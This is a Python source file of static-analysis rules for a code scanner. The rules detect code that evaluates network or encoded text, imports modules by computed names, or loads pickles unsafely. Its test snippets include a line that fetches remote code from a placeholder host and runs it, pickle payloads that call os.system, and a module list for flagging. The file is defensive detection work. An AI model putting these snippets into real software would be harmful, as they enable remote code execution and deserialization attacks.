"""Rules about text and objects that become code: evaluation, imports by a calculated name, loaders."""

from __future__ import annotations

from ringfence.scanning.effects import Kind, Language, Origin, Trait
from ringfence.scanning.findings import Family
from ringfence.scanning.rule import Rule, When
from ringfence.scanning.rules.examples import python
from ringfence.threat import ThreatLevel

_SINGLE = (Language.PYTHON, Language.JAVASCRIPT)
"""Languages in which starting a process is an act of its own; in a shell every line does."""
_MODULES = (
    "os", "sys", "subprocess", "builtins", "importlib", "socket", "shutil", "ctypes", "posix", "nt",
    "pty", "inspect", "types", "marshal", "pickle", "code", "codeop", "signal", "multiprocessing",
    "threading", "gc", "runpy", "imp", "io",
)  # fmt: skip
"""Modules that give what a snippet is not meant to have."""

RULES: tuple[Rule, ...] = (
    Rule(
        "evaluate-from-network",
        "Code received from the network",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} runs code that was received over the network.",
        (When(Kind.EVALUATE, origins=(Origin.NETWORK,)),),
        found=python(
            "import requests\nexec(requests.get('https://example.org/x.py').text)",
            "from urllib.request import urlopen as u\neval(compile(u('https://example.org/x.py').read(), 'x', 'exec'))",
        ),
        ignored=python(
            "import requests\nprint(requests.get('https://example.org/x.py').text)",
            "import requests, ast\nvalue = ast.literal_eval(requests.get('https://example.org/list').text)",
        ),
        tags=("CWE-94", "CWE-494", "T1105", "ASI05"),
        hint="Do not run what was downloaded; parse it as data.",
    ),
    Rule(
        "evaluate-decoded",
        "Code hidden by an encoding",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} runs code that the source holds in encoded form.",
        (
            When(Kind.EVALUATE, origins=(Origin.DECODED,), languages=_SINGLE),
            When(Kind.EVALUATE, traits=(Trait.PACKED,)),
        ),
        found=python(
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(open('x', 'rb').read())))",
        ),
        ignored=python(
            "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
            "exec('print(1)')",
        ),
        tags=("CWE-506", "T1027", "T1140", "ASI05"),
        hint="Write the code as it is.",
    ),
    Rule(
        "evaluate-text",
        "Text run as code",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "{name} runs text as code, so whoever can change the text can do anything the program can.",
        (When(Kind.EVALUATE, without=(Trait.CALCULATED,), languages=(Language.PYTHON,)),),
        found=python("def calculate(text):\n    return eval(text)", "exec(open('plugin.py').read())"),
        ignored=python("import ast\nast.literal_eval('[1, 2]')", "import re\nre.compile('a+')"),
        tags=("CWE-95", "T1059.006", "ASI05"),
        hint="Use ast.literal_eval for data, or write the code itself.",
    ),
    Rule(
        "evaluate-handed-on",
        "Evaluating function handed on",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} is handed on as a value instead of being called, which hides what it will run.",
        (
            When(
                Kind.EVALUATE,
                names=("exec", "compile", "__import__", "breakpoint"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=python("run = [print, exec]\nrun[1]('x = 1')", "class A:\n    __getitem__ = exec"),
        ignored=python("exec('x = 1')", "import re\ncompile = re.compile\ncompile('a')\nf = compile"),
        tags=("CWE-95", "T1059.006", "T1027"),
        hint="Call functions by their own name.",
    ),
    Rule(
        "evaluate-eval-handed-on",
        "Function eval handed on",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "eval is handed on as a value, so every text that it meets is run as code.",
        (When(Kind.EVALUATE, names=("eval",), traits=(Trait.CALCULATED,)),),
        found=python(
            "values = list(map(eval, ['1', '2']))", "import pandas as pd\npd.Series(['[1]']).apply(eval)"
        ),
        ignored=python(
            "import ast\nvalues = list(map(ast.literal_eval, ['1', '2']))",
            "def eval(x):\n    return x\nlist(map(eval, ['1']))",
        ),
        tags=("CWE-95", "T1059.006"),
        hint="Use ast.literal_eval for data.",
    ),
    Rule(
        "import-calculated",
        "Dangerous module imported by name",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} imports {value} by a text instead of an import statement, which is how filters of import statements are passed.",
        (
            When(
                Kind.IMPORT,
                values=(*_MODULES, "os.*", "ctypes.*", "importlib.*", "_posixsubprocess"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=python(
            "__import__('os').system('ls')",
            "import importlib\nimportlib.import_module('sub' + 'process').run(['ls'])",
        ),
        ignored=python("import importlib\nimportlib.import_module('json')", "import os\nprint(os.getcwd())"),
        tags=("CWE-470", "T1027", "ASI05"),
        hint="Use an import statement.",
    ),
    Rule(
        "import-unknown",
        "Module imported by a name that cannot be told",
        Family.INJECTION,
        ThreatLevel.LOW,
        "{name} imports a module whose name is put together at run time.",
        (When(Kind.IMPORT, traits=(Trait.CALCULATED, Trait.UNRESOLVED)),),
        found=python(
            "import importlib\ndef load(name):\n    return importlib.import_module(name)",
            "m = __import__(input())",
        ),
        ignored=python("import importlib\nimportlib.import_module('json')", "import json"),
        tags=("CWE-470",),
    ),
    Rule(
        "load-from-network",
        "Objects loaded from the network",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} turns data from the network into objects, and such data can run code while it is loaded.",
        (When(Kind.LOAD, origins=(Origin.NETWORK,)),),
        found=python(
            "import pickle, requests\npickle.loads(requests.get('https://example.org/x').content)",
            "import pickle, socket\ns = socket.socket()\npickle.loads(s.recv(999))",
        ),
        ignored=python(
            "import json, requests\njson.loads(requests.get('https://example.org/x').content)",
            "import pickle\npickle.load(open('model.pkl', 'rb'))",
        ),
        tags=("CWE-502", "T1059.006", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-acts",
        "Serialised object that runs code",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} makes or loads an object that calls {value} when it is loaded.",
        (
            When(Kind.LOAD, names=("__reduce__",)),
            When(Kind.LOAD, traits=(Trait.HIDDEN,)),
        ),
        found=python(
            "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')",
            "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
        ),
        ignored=python(
            "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')",
            "class A:\n    def __reduce__(self):\n        return (A, ())",
        ),
        tags=("CWE-502", "T1059.006", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-hidden",
        "Objects loaded from encoded data",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} loads objects out of data that was encoded or compressed, so what it will run can be seen by nobody.",
        (
            When(Kind.LOAD, traits=(Trait.PACKED,)),
            When(Kind.LOAD, names=("marshal.*", "jsonpickle.*", "yaml.unsafe_load*")),
        ),
        found=python(
            "import base64, pickle\ndef f(data):\n    return pickle.loads(base64.b64decode(data))",
            "import marshal\nmarshal.loads(data)",
        ),
        ignored=python(
            "import pickle\npickle.load(open('model.pkl', 'rb'))",
            "import base64, json\njson.loads(base64.b64decode(data))",
        ),
        tags=("CWE-502", "T1027", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-objects",
        "Loader that can run code",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "{name} can run code that its data names; only data of one's own is safe to load with it.",
        (When(Kind.LOAD, without=(Trait.HIDDEN,)),),
        found=python("import pickle\npickle.load(open('model.pkl', 'rb'))", "import yaml\nyaml.load(text)"),
        ignored=python(
            "import yaml\nyaml.safe_load(text)", "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)"
        ),
        tags=("CWE-502",),
        hint="Use JSON, or a loader for plain data (yaml.safe_load, weights_only=True).",
    ),
)
